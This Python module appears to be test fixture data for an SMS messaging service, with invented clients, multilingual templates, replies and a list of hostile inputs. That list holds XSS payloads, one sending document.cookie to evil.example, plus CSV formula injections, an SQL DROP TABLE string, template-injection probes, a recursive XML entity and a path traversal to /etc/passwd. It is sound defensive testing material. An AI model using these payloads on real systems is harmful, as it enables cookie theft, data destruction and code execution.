"""What the invented account writes and what people answer: templates by language, hostile texts included.

Knows nothing of time, numbers of people or HTTP. Every company here is invented.
"""

from math import ceil
from typing import NamedTuple

_GSM_7 = frozenset(
    "@£$¥èéùìòÇ\nØø\rÅåΔ_ΦΓΛΩΠΨΣΘΞÆæßÉ !\"#¤%&'()*+,-./0123456789:;<=>?¡"
    "ABCDEFGHIJKLMNOPQRSTUVWXYZÄÖÑÜ§¿abcdefghijklmnopqrstuvwxyzäöñüà"
)
_TWICE = frozenset("^{}\\[]~|€\f")


def count_parts(text: str) -> int:
    """Return how many parts a text is sent in: 160 then 153 in GSM-7, 70 then 67 in Unicode."""
    if _GSM_7.issuperset(text):
        units, single, joined = len(text), 160, 153
    elif (_GSM_7 | _TWICE).issuperset(text):
        units, single, joined = len(text) + sum(text.count(sign) for sign in _TWICE), 160, 153
    else:
        units, single, joined = len(text.encode("utf-16-le", "surrogatepass")) // 2, 70, 67
    return 1 if units <= single else ceil(units / joined)


class Client(NamedTuple):
    """One sub-account with its senders; `reference` is a pattern, "" or None."""

    client_id: int
    senders: tuple[str, ...]
    reference: str | None


SHOP = Client(4101, ("Tavelune", "Tavelune", "36000", ""), "order-{order}")
PARCEL = Client(4102, ("Kalivert", "Kalivert", "L'Ô & Fils"), "parcel-{order}")
BANK = Client(4117, ("Zedoria", "ZEDORIA-OTP"), None)
CLINIC = Client(4230, ("Orbaline", "38654"), "")
MARKETING = Client(4101, ("Tavelune",), "")


class Flow(NamedTuple):
    """One kind of message: who sends it, and its texts by language."""

    client: Client
    texts: dict[str, tuple[str, ...]]

    def templates(self, language: str) -> tuple[str, ...]:
        """Return the texts of a language, English where it has none."""
        return self.texts.get(language) or self.texts["en"]


OTP = Flow(
    BANK,
    {
        "fr": (
            "Zedoria : votre code est {code}. Ne le communiquez à personne.",
            "{code} est votre code de vérification Zedoria. Valable 10 minutes.",
        ),
        "en": (
            "{code} is your Zedoria security code. Do not share it.",
            "Zedoria: use {code} to sign in. Expires in 10 minutes.",
        ),
        "de": ("Ihr Zedoria-Code lautet {code}. Bitte nicht weitergeben.",),
        "es": ("Zedoria: su código es {code}. No lo comparta.",),
        "it": ("Zedoria: il tuo codice è {code}. Non condividerlo.",),
        "pt": ("Zedoria: o seu código é {code}. Não o partilhe.",),
        "nl": ("Uw Zedoria-code is {code}. Deel deze met niemand.",),
        "pl": ("Zedoria: Twój kod to {code}. Nie udostępniaj go nikomu, proszę.",),
        "ar": ("رمز التحقق الخاص بك من Zedoria هو {code}. لا تشاركه مع أحد.",),
        "zh": ("【Zedoria】您的验证码是{code},10分钟内有效。",),
    },
)
ORDER = Flow(
    SHOP,
    {
        "fr": (
            "Bonjour {name}, votre commande {order} est confirmée. Merci ! Tavelune",
            "Votre commande {order} est prête. Retrait en boutique jusqu'à {hour} h, samedi inclus.",
            "Bonjour {name},\nvotre commande {order} a été expédiée 📦\nÀ bientôt, l'équipe Tavelune",
            "Tavelune : le remboursement de la commande {order} ({code} cts) a été effectué.",
        ),
        "en": (
            "Hi {name}, your Tavelune order {order} is on its way.",
            "Tavelune: order {order} is ready for collection until {hour}:00.",
        ),
        "de": ("Hallo {name}, Ihre Bestellung {order} wurde verschickt. Tavelune",),
        "es": ("Hola {name}, su pedido {order} está en camino. Tavelune",),
        "it": ("Ciao {name}, il tuo ordine {order} è stato spedito. Tavelune",),
        "ar": ("مرحبا {name}، تم شحن طلبك رقم {order}. شكرا لثقتك.",),
        "zh": ("{name}您好,您的订单{order}已发货。感谢您的信任!",),
    },
)
DELIVERY = Flow(
    PARCEL,
    {
        "fr": (
            "Kalivert : votre colis {order} arrive aujourd'hui entre {hour} h et {later} h.",
            "Colis {order} livré en point relais. Code de retrait : {code}.",
            "Nous sommes passés à {hour} h 15, vous étiez absent(e). Nouveau passage demain, ou "
            "choisissez un point relais sur https://kalivert.example/c/{order}. Sans réponse de "
            "votre part sous 48 heures, le colis sera rapporté à notre entrepôt. Répondez 1 pour "
            "demain matin, 2 pour demain après-midi, 3 pour samedi.",
        ),
        "en": (
            "Kalivert: your parcel {order} arrives today between {hour}:00 and {later}:00.",
            "Parcel {order} is waiting for you. Pick-up code: {code}.",
        ),
        "de": ("Kalivert: Ihr Paket {order} kommt heute zwischen {hour} und {later} Uhr.",),
        "es": ("Kalivert: su paquete {order} llega hoy entre las {hour} y las {later} h.",),
    },
)
APPOINTMENT = Flow(
    CLINIC,
    {
        "fr": (
            "Rappel : rendez-vous demain à {hour} h 30, cabinet Orbaline. Répondez OUI ou NON.",
            "Votre rendez-vous du {day} est déplacé à {hour} h. Ça ne vous convient pas ? "
            "Appelez-nous, ou écrivez « ANNULER » – à très bientôt ☀️",
        ),
        "en": ("Reminder: your appointment is tomorrow at {hour}:30. Reply YES or NO.",),
        "de": ("Erinnerung: Ihr Termin ist morgen um {hour}:30 Uhr. Antworten Sie JA oder NEIN.",),
        "it": ("Promemoria: appuntamento domani alle {hour}:30. Rispondi SÌ o NO.",),
    },
)
ALERT = Flow(
    CLINIC,
    {
        "fr": (
            "[{code}] Alerte : capteur {order} hors ligne depuis {hour} h {{site: nord}}",
            "Astreinte : incident {order} – priorité haute. Accusez réception.",
        ),
        "en": ("ALERT {code}: probe {order} offline since {hour}:00.",),
    },
)
PROMOTION = Flow(
    MARKETING,
    {
        "fr": (
            "Tavelune : -20% sur tout le magasin jusqu'à dimanche avec le code ETE{hour}. STOP au 36000",
            "🎁 Ventes privées ! Dès demain {hour} h, jusqu'à –50 % chez Tavelune. STOP au 36000",
            "Tavelune : vos points expirent le {day}. Détails : https://tavelune.example/p. STOP 36000",
        ),
        "en": (
            "Tavelune: 20% off everything until Sunday with code SUN{hour}. Reply STOP to opt out",
        ),
    },
)
# Drawn by ten-ths: one entry a share.
FLOWS = (OTP,) * 30 + (ORDER,) * 25 + (DELIVERY,) * 25 + (APPOINTMENT,) * 14 + (ALERT,) * 6

NAMES = (
    "Camille", "Léa", "Noé", "Inès", "Zoé", "Jean-Loup", "Anaïs", "Maëlle", "Óscar", "Björk",
    "Siân", "Amadou", "Fatou", "O'Neil", "Мила", "李娜", "Åsa", "François", "Chloé", "Hugo",
)  # fmt: skip
REPLIES = (
    "OUI", "Oui merci", "NON", "ok", "OK 👍", "Merci !", "1", "2", "3", "ANNULER", "c'est qui ?",
    "Je serai là à 15h", "Bonjour, je n'ai rien reçu…", "Pouvez-vous me rappeler svp",
    "YES", "No, wrong number", "شكرا", "谢谢", "Ça marche 😀", "Où est mon colis ???",
)  # fmt: skip
STOPS = ("STOP", "Stop", "STOP 36000", "stop svp", "STOP.", "STOP STOP STOP")
HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(document.cookie)>",
    "\"><svg/onload=fetch('//evil.example/'+document.cookie)>",
    "<a href=\"javascript:alert(1)\" hx-get=\"/accounts/logout/\" hx-trigger=load>clic</a>",
    "{{ 7*7 }} {% debug %} ${7*7} <%= 7*7 %>",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+33 ; -1+1 ; \t=HYPERLINK(\"http://evil.example\";\"clic\")",
    "'; DROP TABLE messages; --",
    "\u202eegassem nu tse ic\u202c fin \u2066isolé\u2069 \u200f",
    "zéro\u200blargeur\u200d\u2060 et \ufeffBOM \u00ad",
    "cloche\x07 retour\x08 échap\x1b[31m rouge \x01\x02\x1f\x7f\x85 fin",
    "lignes\r\nWindows\rMac\nUnix\u2028séparateur\u2029paragraphe",
    "Z̴̡̛̠̗̜̓a̷̢̱̍͆l̶̨̛̗g̵̙̈o̶̦̓ n\u0303 e\u0301 ﷽ 👩‍👩‍👧‍👦 🏳️‍🌈 \U000e0041",
    "]]><!-- --><!DOCTYPE x [<!ENTITY a \"&a;\">]>&a;&#0;",
    "%s %n {0} %(x)s ../../etc/passwd \\u0000 \\",
    " \u3000\u00a0 ",
    "STOP<b>gras</b>",
)  # fmt: skip
HOSTILE_ORDER = "Bonjour {name}, note du client : « {note} ». Commande {order}."
